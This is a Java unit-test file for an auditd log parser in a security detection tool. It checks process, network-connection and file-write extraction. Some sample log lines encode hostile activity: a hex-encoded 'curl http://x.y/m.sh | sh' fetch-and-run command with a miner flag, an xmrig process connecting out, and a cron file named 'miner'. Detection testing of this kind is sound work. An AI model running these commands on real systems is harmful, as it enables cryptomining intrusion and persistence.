package dev.minewarden.ingest.auditd;

import static org.assertj.core.api.Assertions.assertThat;

import dev.minewarden.core.event.Event;
import dev.minewarden.core.event.LogSource;
import dev.minewarden.ingest.CollectingSink;
import dev.minewarden.ingest.SourceContext;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class AuditdFormatTest {
  private static final AuditdFormat FORMAT = new AuditdFormat();
  private static final SourceContext CONTEXT = SourceContext.of("audit.log", 0);
  private static final LogSource PROCESS = LogSource.exact("linux", "process_creation", "auditd");

  private static CollectingSink parse(String text) {
    return CollectingSink.parse(FORMAT, text, CONTEXT);
  }

  private static List<Event> processes(CollectingSink sink) {
    return sink.events.stream().filter(e -> e.logSource().equals(PROCESS)).toList();
  }

  private static List<Event> records(CollectingSink sink, String type) {
    return sink.events.stream()
        .filter(e -> !e.logSource().equals(PROCESS) && type.equals(e.get("type"))).toList();
  }

  private static final String SYSCALL_TAIL = " ppid=100 pid=200 auid=1000 uid=0 gid=0 euid=0 suid=0"
      + " fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1";

  @Test
  void parse_execveRecordsSample() {
    CollectingSink sink = CollectingSink.parseResource(FORMAT, "samples/auditd-execve-records.log", CONTEXT);
    assertThat(sink.malformed).isEmpty();
    List<Event> procs = processes(sink);
    assertThat(procs).hasSize(2);
    Event bash = procs.get(0);
    assertThat(bash.timestampMillis()).isEqualTo(1696431255037L);
    assertThat(bash.sourceLine()).isEqualTo(1);
    assertThat(bash.get("Image")).isEqualTo("/usr/bin/bash");
    assertThat(bash.get("CommandLine")).isEqualTo("-bash");
    assertThat(bash.get("OriginalFileName")).isEqualTo("bash");
    assertThat(bash.get("ProcessId")).isEqualTo(192010L);
    assertThat(bash.get("ParentProcessId")).isEqualTo(192009L);
    assertThat(bash.get("User")).as("enriched UID name").isEqualTo("bui");
    assertThat(bash.get("LogonId")).isEqualTo("1000");
    assertThat(bash.get("type")).isEqualTo("EXECVE");
    assertThat(bash.get("a0")).isEqualTo("-bash");
    assertThat(bash.get("key")).isEqualTo("susp_shell");
    assertThat(bash.get("SYSCALL")).isEqualTo("execve");
    assertThat(bash.get("SYSCALL.a0")).isEqualTo("557ac7557210");
    assertThat(bash.get("name")).isEqualTo(List.of("/bin/bash", "/bin/bash", "/lib64/ld-linux-x86-64.so.2"));

    Event su = procs.get(1);
    assertThat(su.get("CommandLine")).isEqualTo("/usr/bin/su --help");
    assertThat(su.get("proctitle")).as("hex proctitle, NULs as spaces").isEqualTo("/usr/bin/su --help");
    assertThat(su.get("ParentImage")).isEqualTo("/usr/bin/bash");
    assertThat(su.get("ParentCommandLine")).isEqualTo("-bash");
    assertThat(su.get("EUID")).isEqualTo("root");
    assertThat(su.get("a1")).isEqualTo("--help");

    List<Event> paths = records(sink, "PATH");
    assertThat(paths).hasSize(6);
    assertThat(paths.get(0).get("name")).isEqualTo("/bin/bash");
    assertThat(paths.get(0).get("cap_frootid")).as("glued enriched field split off").isEqualTo("0");
    assertThat(paths.get(0).get("OUID")).isEqualTo("root");
    assertThat(paths.get(0).get("exe")).as("SYSCALL context").isEqualTo("/usr/bin/bash");
    Event syscall = records(sink, "SYSCALL").get(0);
    assertThat(syscall.get("exe")).isEqualTo("/usr/bin/bash");
    assertThat(syscall.get("a0")).isEqualTo("557ac7557210");
    assertThat(syscall.get("key")).isEqualTo("susp_shell");
    assertThat(syscall.get("ARCH")).isEqualTo("x86_64");
    Event abend = records(sink, "ANOM_ABEND").get(0);
    assertThat(abend.get("res")).isEqualTo("1");
    assertThat(abend.get("AUID")).isEqualTo("bui");
    assertThat(abend.get("sig")).isEqualTo("11");

    long lines = CollectingSink.lines("samples/auditd-execve-records.log").size();
    long execveLines = 2;
    assertThat(sink.events.size() - procs.size()).as("one event per non-EXECVE record").isEqualTo(lines - execveLines);
  }

  @Test
  void parse_syscallOnlySample() {
    CollectingSink sink = CollectingSink.parseResource(FORMAT, "samples/auditd-wget-chmod-exec-tmp.log", CONTEXT);
    assertThat(sink.malformed).isEmpty();
    assertThat(processes(sink)).extracting(e -> e.get("Image"))
        .containsExactly("/usr/bin/wget", "/bin/chmod", "/tmp/blitz64");
    Event wget = processes(sink).get(0);
    assertThat(wget.timestampMillis()).isEqualTo(1684331127039L);
    assertThat(wget.has("type")).as("no EXECVE record, no type").isFalse();
    assertThat(wget.get("User")).isEqualTo("1000");
    assertThat(wget.get("key")).isEqualTo("(null)");
    assertThat(records(sink, "SYSCALL")).extracting(e -> e.get("SYSCALL")).containsOnly("execve");
  }

  @Test
  void parse_hexAndSplitArguments() {
    String text = String.join("\n",
        "type=SYSCALL msg=audit(1700000000.100:500): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1" + SYSCALL_TAIL + " comm=\"sh\" exe=\"/usr/bin/dash\" key=6B657931016B657932",
        "type=EXECVE msg=audit(1700000000.100:500): argc=3 a0=\"sh\" a1=\"-c\" a2=6375726C20687474703A2F2F782E792F6D2E7368207C207368",
        "type=EXECVE msg=audit(1700000000.100:500): argc=4 a3_len=16 a3[0]=2D2D646F6E6174652D6C6576 a3[1]=\"el=0\"",
        "type=CWD msg=audit(1700000000.100:500): cwd=\"/tmp\"",
        "type=PATH msg=audit(1700000000.100:500): item=0 name=\"/bin/sh\" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        "type=PROCTITLE msg=audit(1700000000.100:500): proctitle=7368002D63006375726C20687474703A2F2F782E792F6D2E7368207C207368",
        "type=EOE msg=audit(1700000000.100:500):");
    CollectingSink sink = parse(text);
    assertThat(sink.malformed).isEmpty();
    Event p = processes(sink).get(0);
    assertThat(p.get("CommandLine")).isEqualTo("sh -c curl http://x.y/m.sh | sh --donate-level=0");
    assertThat(p.get("a2")).isEqualTo("curl http://x.y/m.sh | sh");
    assertThat(p.get("a3")).isEqualTo("--donate-level=0");
    assertThat(p.get("CurrentDirectory")).isEqualTo("/tmp");
    assertThat(p.get("proctitle")).isEqualTo("sh -c curl http://x.y/m.sh | sh");
    assertThat(p.get("key")).as("several keys").isEqualTo("key1,key2");
    assertThat(p.get("User")).isEqualTo("0");
    assertThat(sink.events).hasSize(5);
  }

  @Test
  void parse_connectCarriesDestination() {
    String text = String.join("\n",
        "type=SYSCALL msg=audit(1700000002.000:502): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd a2=10 a3=0 items=0" + SYSCALL_TAIL + " comm=\"xmrig\" exe=\"/tmp/xmrig\" key=\"network_connect_4\"",
        "type=SOCKADDR msg=audit(1700000002.000:502): saddr=02000D05C0A801050000000000000000",
        "type=PROCTITLE msg=audit(1700000002.000:502): proctitle=\"xmrig\"",
        "type=SYSCALL msg=audit(1700000002.500:503): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd a2=1c a3=0 items=0" + SYSCALL_TAIL + " comm=\"xmrig\" exe=\"/tmp/xmrig\" key=\"network_connect_6\"",
        "type=SOCKADDR msg=audit(1700000002.500:503): saddr=0A000D050000000020010DB800000000000000000000000100000000",
        "type=PROCTITLE msg=audit(1700000002.500:503): proctitle=\"xmrig\"");
    CollectingSink sink = parse(text);
    List<Event> calls = records(sink, "SYSCALL");
    assertThat(calls).hasSize(2);
    assertThat(calls).allSatisfy(e -> assertThat(e.logSource()).isEqualTo(LogSource.exact("linux", "network_connection", "auditd")));
    assertThat(calls.get(0).get("DestinationIp")).isEqualTo("192.168.1.5");
    assertThat(calls.get(0).get("DestinationPort")).isEqualTo(3333L);
    assertThat(calls.get(0).get("Image")).isEqualTo("/tmp/xmrig");
    assertThat(calls.get(0).get("SYSCALL")).isEqualTo("connect");
    assertThat(calls.get(1).get("DestinationIp")).isEqualTo("2001:db8::1");
    assertThat(processes(sink)).isEmpty();
  }

  @Test
  void parse_fileWritesCarryTargetFilename() {
    String text = String.join("\n",
        "type=SYSCALL msg=audit(1700000003.000:510): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 items=2" + SYSCALL_TAIL + " comm=\"bash\" exe=\"/usr/bin/bash\" key=\"cron\"",
        "type=CWD msg=audit(1700000003.000:510): cwd=\"/root\"",
        "type=PATH msg=audit(1700000003.000:510): item=0 name=\"/etc/cron.d/\" inode=5 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
        "type=PATH msg=audit(1700000003.000:510): item=1 name=\"/etc/cron.d/miner\" inode=6 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE",
        "type=PROCTITLE msg=audit(1700000003.000:510): proctitle=\"bash\"",
        "type=SYSCALL msg=audit(1700000003.100:511): arch=c000003e syscall=2 success=yes exit=3 a0=7ffd a1=401 a2=1b6 a3=0 items=1" + SYSCALL_TAIL + " comm=\"sh\" exe=\"/usr/bin/dash\" key=(null)",
        "type=CWD msg=audit(1700000003.100:511): cwd=\"/home/a\"",
        "type=PATH msg=audit(1700000003.100:511): item=0 name=\"notes.txt\" inode=7 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        "type=PROCTITLE msg=audit(1700000003.100:511): proctitle=\"sh\"",
        "type=SYSCALL msg=audit(1700000003.200:512): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=0 a3=0 items=1" + SYSCALL_TAIL + " comm=\"cat\" exe=\"/usr/bin/cat\" key=(null)",
        "type=PATH msg=audit(1700000003.200:512): item=0 name=\"/etc/ld.so.preload\" inode=8 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        "type=PROCTITLE msg=audit(1700000003.200:512): proctitle=\"cat\"");
    CollectingSink sink = parse(text);
    List<Event> calls = records(sink, "SYSCALL");
    assertThat(calls).extracting(e -> e.get("TargetFilename"))
        .containsExactly("/etc/cron.d/miner", "/home/a/notes.txt", null);
    assertThat(calls.get(0).logSource()).isEqualTo(LogSource.exact("linux", "file_event", "auditd"));
    assertThat(calls.get(1).get("SYSCALL")).isEqualTo("open");
    assertThat(calls.get(2).logSource()).isEqualTo(LogSource.exact("linux", null, "auditd"));
    assertThat(records(sink, "PATH")).extracting(e -> e.get("name"))
        .containsExactly("/etc/cron.d/", "/etc/cron.d/miner", "notes.txt", "/etc/ld.so.preload");
  }

  @Test
  void parse_interleavedGroupsStayApart() {
    String text = String.join("\n",
        "type=SYSCALL msg=audit(1700000010.000:600): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=601 auid=0 uid=0 comm=\"a\" exe=\"/bin/a\"",
        "type=SYSCALL msg=audit(1700000010.000:601): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=602 auid=0 uid=0 comm=\"b\" exe=\"/bin/b\"",
        "type=EXECVE msg=audit(1700000010.000:601): argc=2 a0=\"b\" a1=\"two\"",
        "type=EXECVE msg=audit(1700000010.000:600): argc=2 a0=\"a\" a1=\"one\"",
        "type=EOE msg=audit(1700000010.000:601):",
        "type=EOE msg=audit(1700000010.000:600):");
    CollectingSink sink = parse(text);
    assertThat(processes(sink)).extracting(e -> e.get("CommandLine")).containsExactly("b two", "a one");
    assertThat(processes(sink)).extracting(e -> e.get("Image")).containsExactly("/bin/b", "/bin/a");
  }

  @Test
  void parse_openGroupsAreBounded() {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < 200; i++) {
      text.append("type=SYSCALL msg=audit(1700000020.000:").append(1000 + i)
          .append("): arch=c000003e syscall=59 success=yes exit=0 items=0 pid=").append(i).append(" exe=\"/bin/x\"\n");
    }
    for (int i = 199; i >= 0; i--) {
      text.append("type=EXECVE msg=audit(1700000020.000:").append(1000 + i).append("): argc=1 a0=\"late\"\n");
    }
    CollectingSink sink = parse(text.toString());
    assertThat(sink.malformed).isEmpty();
    assertThat(records(sink, "SYSCALL")).hasSize(200);
    long withArgs = processes(sink).stream().filter(e -> "late".equals(e.get("a0")) && e.has("Image")).count();
    assertThat(withArgs).as("only groups still open met their EXECVE").isEqualTo(AuditdFormat.MAX_OPEN_GROUPS);
  }

  @Test
  void parse_groupsTimeOutInEventTime() throws java.io.IOException {
    String text = "type=SYSCALL msg=audit(1700000030.000:700): arch=c000003e syscall=59 success=yes exit=0 pid=1 exe=\"/bin/x\"\n"
        + "type=SYSCALL msg=audit(1700000033.000:701): arch=c000003e syscall=59 success=yes exit=0 pid=2 exe=\"/bin/y\"\n";
    List<String> order = new java.util.ArrayList<>();
    FORMAT.parse(new java.io.ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), CONTEXT,
        new dev.minewarden.ingest.EventSink() {
          @Override
          public void event(Event event) {
            order.add(event.sourceLine() + ":" + event.get("Image"));
          }

          @Override
          public void malformed(long line, String reason, String excerpt) {
            order.add("malformed");
          }
        });
    assertThat(order.get(0)).isEqualTo("1:/bin/x");
  }

  @Test
  void parse_enrichedNodeAndUserRecords() {
    String text = "node=web-1 type=SYSCALL msg=audit(1700000004.000:504): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=500 auid=1000 uid=1000 comm=\"id\" exe=\"/usr/bin/id\" key=(null)\u001dARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"alice\" GID=\"alice\"\n"
        + "node=web-1 type=EXECVE msg=audit(1700000004.000:504): argc=1 a0=\"id\"\n"
        + "node=web-2 type=EXECVE msg=audit(1700000004.000:504): argc=1 a0=\"other\"\n"
        + "type=USER_LOGIN msg=audit(1700000005.000:505): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=1.2.3.4 terminal=sshd res=failed'\u001dUID=\"root\" AUID=\"unset\"\n";
    CollectingSink sink = parse(text);
    assertThat(sink.malformed).isEmpty();
    Event id = processes(sink).get(0);
    assertThat(id.host()).isEqualTo("web-1");
    assertThat(id.get("User")).isEqualTo("alice");
    assertThat(id.get("CommandLine")).isEqualTo("id");
    assertThat(processes(sink)).hasSize(2);
    assertThat(processes(sink).get(1).host()).isEqualTo("web-2");
    Event login = records(sink, "USER_LOGIN").get(0);
    assertThat(login.get("acct")).isEqualTo("root");
    assertThat(login.get("addr")).isEqualTo("1.2.3.4");
    assertThat(login.get("res")).isEqualTo("failed");
    assertThat(login.get("AUID")).isEqualTo("unset");
    assertThat(login.timestampMillis()).isEqualTo(1700000005000L);
  }

  @Test
  void parse_truncatedAndHostileRecords() {
    String text = "type=SYSCALL msg=audit(1700000006.0\n"
        + "garbage\n"
        + "type=SYSCALL msg=audit(1700000006.000:506): arch=c000003e sysc\n"
        + "type=EXECVE msg=audit(1700000006.000:506): argc=2 a0=\"\u001b[2Jx\" a1=\"unterminated\n"
        + "type=PATH msg=audit(x.y:z): name=\"a\"\n"
        + "type=EXECVE msg=audit(1700000007.000:507): argc=1 a0=ZZ a99999999999[0]=41 a1=FF\n";
    CollectingSink sink = parse(text);
    assertThat(sink.malformed).extracting(CollectingSink.Malformed::line).containsExactly(1L, 2L, 5L);
    List<Event> procs = processes(sink);
    assertThat(procs).extracting(e -> e.get("CommandLine")).containsExactly("\u001b[2Jx unterminated", "ZZ \uFFFD");
  }

  @Test
  void parse_tenMegabyteRecordIsReportedAndSkipped() {
    String huge = "type=EXECVE msg=audit(1700000008.000:800): argc=1 a0=" + "41".repeat(5 * 1024 * 1024) + "\n";
    String next = "type=EXECVE msg=audit(1700000008.000:801): argc=1 a0=\"ok\"\n";
    CollectingSink sink = parse(huge + next);
    assertThat(sink.malformed).extracting(CollectingSink.Malformed::line).containsExactly(1L);
    assertThat(processes(sink)).extracting(e -> e.get("CommandLine")).containsExactly("ok");
  }

  @Test
  void sniff_auditLogOnly() {
    byte[] audit = "node=h type=SYSCALL msg=audit(1.2:3): x\n".getBytes(StandardCharsets.UTF_8);
    assertThat(FORMAT.sniff(audit, audit.length)).isTrue();
    byte[] syslog = "Mar  5 06:25:01 h sshd[1]: x\n".getBytes(StandardCharsets.UTF_8);
    assertThat(FORMAT.sniff(syslog, syslog.length)).isFalse();
    assertThat(FORMAT.name()).isEqualTo("auditd");
  }
}
